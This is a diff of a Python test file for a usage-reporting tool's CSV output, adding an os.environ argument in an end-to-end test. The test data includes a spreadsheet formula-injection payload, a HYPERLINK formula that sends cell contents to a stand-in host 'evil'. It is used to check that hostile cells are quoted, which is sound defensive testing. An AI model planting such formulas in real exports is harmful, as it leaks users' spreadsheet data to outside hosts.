@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import math
+import os
 from datetime import datetime, timedelta, timezone
 
 import pytest
@@ -169,7 +170,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile):
 
 def test_csv_report_of_a_hostile_task_end_to_end(data_dir):
     now = datetime.now(timezone.utc) - timedelta(minutes=30)
-    with chdb_client(embedded_clickhouse_path()) as client:
+    with chdb_client(embedded_clickhouse_path(os.environ)) as client:
         insert_events(client, [call_event(now, '=HYPERLINK("http://evil/?"&A1,"ver")', "gemini-2.5-flash", "paid",
                                           100, 10, event_id="csv1")])
     code, out, err = _run(["report", "--period", "24h", "--group", "group", "--format", "csv"])
